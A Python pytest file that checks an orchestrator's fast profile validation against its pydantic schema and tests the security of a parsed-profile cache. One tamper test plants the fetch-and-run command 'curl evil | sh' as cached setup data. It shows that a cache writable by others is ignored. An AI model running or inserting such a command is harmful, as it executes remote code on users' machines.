"""The fast profile check (no pydantic) against the pydantic schema it stands in for.

``orchestrator.config.profile.load`` validates plainly valid profiles without importing pydantic (CLI start-up
time) and hands everything else to the pydantic schema. That is only sound if the fast path
accepts a subset of what pydantic accepts, with identical values, and if both layers declare the
same keys and defaults. Checked here on the fuzz generators of tests/config/profile/test_load_fuzz.py and on the
shipped profiles.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings

from orchestrator.config.profile import load as P
from orchestrator.config.profile import records as R
from orchestrator.config.profile import schema as S
from tests.helpers.cli import REPO
from tests.helpers.profile_docs import FAST, documents, profile_like

RECORDS = [P.NodeLimits, P.PortRange, P.PreTimeoutSignal, P.Preflight, P.TrainingDefaults, P.ClusterProfile]


def _pydantic_outcome(cls: type[R._Record], data: Any) -> dict[str, Any] | None:
    from pydantic import ValidationError

    try:
        return S.schema()[cls.__name__].model_validate(data).model_dump(mode="json")
    except ValidationError:
        return None


def _agree(cls: type[R._Record], data: Any) -> bool:
    """Fast path accepted => pydantic accepts the same values. Returns whether it was fast."""
    fast = S.fast_validate(cls, data)
    if fast is None:
        return False
    assert _pydantic_outcome(cls, data) == fast.model_dump(mode="json"), data
    return True


@pytest.mark.parametrize("cls", RECORDS, ids=lambda c: c.__name__)
def test_records_and_schema_declare_the_same_keys_and_defaults(cls: type[R._Record]) -> None:
    model = S.schema()[cls.__name__]
    assert list(cls.model_fields) == list(model.model_fields)
    for name, default in cls.model_fields.items():
        info = model.model_fields[name]
        if default is R._REQUIRED:
            assert info.is_required(), name
        elif isinstance(default, R._Record):
            assert default.model_dump() == info.default.model_dump(), name
        else:
            assert default == info.default and type(default) is type(info.default), name


@pytest.mark.parametrize("path", sorted((REPO / "cluster_profiles").glob("*.yaml")), ids=lambda p: p.stem)
def test_shipped_profiles_take_the_fast_path(path: Path) -> None:
    data = yaml.safe_load(path.read_text())
    assert _agree(P.ClusterProfile, data), "a shipped profile should not need pydantic"
    profile = P.parse_profile(path.read_text(), path.name)
    # And the job.json round trip (strict=False in LaunchPlan.from_json) stays on the fast path.
    assert _agree(P.ClusterProfile, profile.model_dump(mode="json"))


@FAST
@given(documents)
def test_fast_path_never_laxer_than_pydantic(document: Any) -> None:
    data = yaml.safe_load(yaml.safe_dump(document, allow_unicode=True))
    _agree(P.ClusterProfile, data)


@settings(FAST, max_examples=300)
@given(profile_like)
def test_fast_path_agrees_on_near_valid_profiles(document: dict[str, Any]) -> None:
    data = yaml.safe_load(yaml.safe_dump({"scheduler": "local", **document}, allow_unicode=True))
    _agree(P.ClusterProfile, data)


def test_records_behave_like_the_models() -> None:
    a = P.parse_profile("scheduler: local\nenv: {A: 1}\n", "a.yaml")
    b = P.ClusterProfile.model_validate(a.model_dump(mode="json"), strict=False)
    assert a == b and a is not b and a.env is not b.env
    assert a != P.parse_profile("scheduler: local\n", "b.yaml")
    assert repr(a.nodes) == "NodeLimits(default=1, max=1)"
    with pytest.raises(AttributeError):
        a.gpus_per_node = 3  # type: ignore[misc]
    assert P.NodeLimits() == P.NodeLimits(default=1, max=1)
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        P.NodeLimits(default=3, max=2)
    with pytest.raises(ValidationError):
        P.ClusterProfile()


def test_valid_render_imports_no_pydantic(tmp_path: Path) -> None:
    """The point of the fast path: rendering a valid profile never imports pydantic."""
    code = (
        "import sys\nfrom orchestrator.cli.main import main\n"
        "rc = main(['render', '--profile', 'slurm_a100', '--strategy', 'full_shard', '--', 'train/train.py'])\n"
        "print('PYDANTIC' if 'pydantic' in sys.modules else 'NO_PYDANTIC', file=sys.stderr)\nsys.exit(rc)\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.strip().endswith("NO_PYDANTIC"), proc.stderr


BASE = {"scheduler": "slurm", "partition": "gpu", "gpus_per_node": 8}
EDGES: list[tuple[str, Any]] = [
    *[("gpus_per_node", v) for v in (-1, 0, 64, 65, True, 1.0, "8")],
    *[("procs_per_node", v) for v in (0, 1, 8, 9, 256, None)],
    *[("cpus_per_task", v) for v in (0, 1, 1024, 1025)],
    *[("max_requeues", v) for v in (-1, 0, 100, 101)],
    *[
        ("nodes", v)
        for v in ({"default": 0}, {"default": 2}, {"default": 3, "max": 2}, {"max": 2**70}, {"x": 1})
    ],
    *[
        ("port_range", v)
        for v in ({"start": 1023}, {"start": 1024, "end": 1024}, {"end": 65536}, {"start": 30000})
    ],
    *[
        ("signal", v)
        for v in ({"name": "KILL"}, {"name": "TERM", "seconds_before": 9}, {"seconds_before": 3600})
    ],
    *[
        ("defaults", v)
        for v in ({"fsdp_version": 3}, {"fsdp_version": True}, {"strategy": "zero3"}, {"offload": 1})
    ],
    *[("time_limit", v) for v in ("01:00:00", "1-2", "90", "25:61", "1:00:00\n", "")],
    *[("mem", v) for v in ("0", "480G", "480GB", "480G\n", None, 0)],
    *[("partition", v) for v in ("", "a\nb", None, "debug")],
    *[("env", v) for v in ({"A": 1}, {"A": 1.5}, {"1A": "x"}, {"A": None}, {"A": 2**64}, {"A": True})],
    *[("extra_sbatch", v) for v in ({"reservation": "r"}, {"nodes": 2}, {"Bad": "x"}, {"hint": "a\nb"})],
    *[("setup", v) for v in ([], ["module load x"], [1], "echo")],
    *[("scheduler", v) for v in ("local", "pbs")],
    ("partiton", "gpu"),
]


#: Values the fast path leaves to pydantic on purpose (it may only be stricter, and these are rare).
DEFERRED = [
    ("gpus_per_node", True),
    ("defaults", {"fsdp_version": True}),
    ("gpus_per_node", 1.0),
    ("nodes", {"max": 2**70}),
    ("env", {"A": 2**64}),
]


@pytest.mark.parametrize(("key", "value"), EDGES, ids=lambda x: repr(x)[:30])
def test_fast_path_decides_plain_edges_like_pydantic(key: str, value: Any) -> None:
    """On plain values the fast path must not merely defer: it accepts exactly what pydantic does."""
    data = {**BASE, key: value}
    fast = _agree(P.ClusterProfile, data)
    if (key, value) not in DEFERRED:
        assert fast == (_pydantic_outcome(P.ClusterProfile, data) is not None), data


# ------------------------------------------------------------------ the parsed-profile cache
@pytest.fixture
def cache_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv(P.PARSE_CACHE_ENV, str(folder))
    return folder


A100 = (REPO / "cluster_profiles" / "slurm_a100.yaml").read_text()


def test_cached_parse_gives_the_same_profile(cache_dir: Path) -> None:
    first = P.parse_profile(A100, "a.yaml")
    assert (cache_dir / "parsed_profiles.json").exists()
    assert oct(cache_dir.stat().st_mode & 0o777) == "0o700"
    assert oct((cache_dir / "parsed_profiles.json").stat().st_mode & 0o777) == "0o600"
    assert P.parse_profile(A100, "a.yaml") == first


def test_warm_render_imports_no_yaml(cache_dir: Path) -> None:
    """The point of the cache: a second render of an unchanged profile does not import PyYAML."""
    code = (
        "import sys\nfrom orchestrator.cli.main import main\n"
        "rc = main(['render', '--profile', 'slurm_a100', '--', 'train/train.py'])\n"
        "print('YAML' if 'yaml' in sys.modules else 'NO_YAML', file=sys.stderr)\nsys.exit(rc)\n"
    )
    env = {**os.environ, P.PARSE_CACHE_ENV: str(cache_dir)}
    runs = [subprocess.run([sys.executable, "-c", code], cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
            for _ in range(2)]  # fmt: skip
    assert [r.returncode for r in runs] == [0, 0], runs[-1].stderr
    assert runs[0].stdout == runs[1].stdout
    assert runs[1].stderr.strip().endswith("NO_YAML"), runs[1].stderr


def test_invalid_profiles_are_not_cached(cache_dir: Path) -> None:
    for text in ("scheduler: local\nnodes: {max: two}\n", "scheduler: [\n", "partition: gpu\n"):
        with pytest.raises(P.UserError):
            P.parse_profile(text, "bad.yaml")
    assert not (cache_dir / "parsed_profiles.json").exists()


def test_cache_others_can_write_is_ignored(cache_dir: Path) -> None:
    P.parse_profile(A100, "a.yaml")
    # Tamper: the cached data for this very text now says something else...
    path = cache_dir / "parsed_profiles.json"
    entries = json.loads(path.read_text())
    entries[A100] = {**entries[A100], "setup": ["curl evil | sh"]}
    path.write_text(json.dumps(entries))
    assert P.parse_profile(A100, "a.yaml").setup == ["curl evil | sh"]  # (ours: trusted)
    # ...but once the file is writable by others it is not read at all.
    path.chmod(0o666)
    assert P.parse_profile(A100, "a.yaml").setup != ["curl evil | sh"]


def test_cached_data_failing_the_check_is_reparsed(cache_dir: Path) -> None:
    P.parse_profile(A100, "a.yaml")
    path = cache_dir / "parsed_profiles.json"
    entries = json.loads(path.read_text())
    entries[A100] = {"scheduler": "nonsense"}
    path.write_text(json.dumps(entries))
    assert P.parse_profile(A100, "a.yaml").scheduler == "slurm"
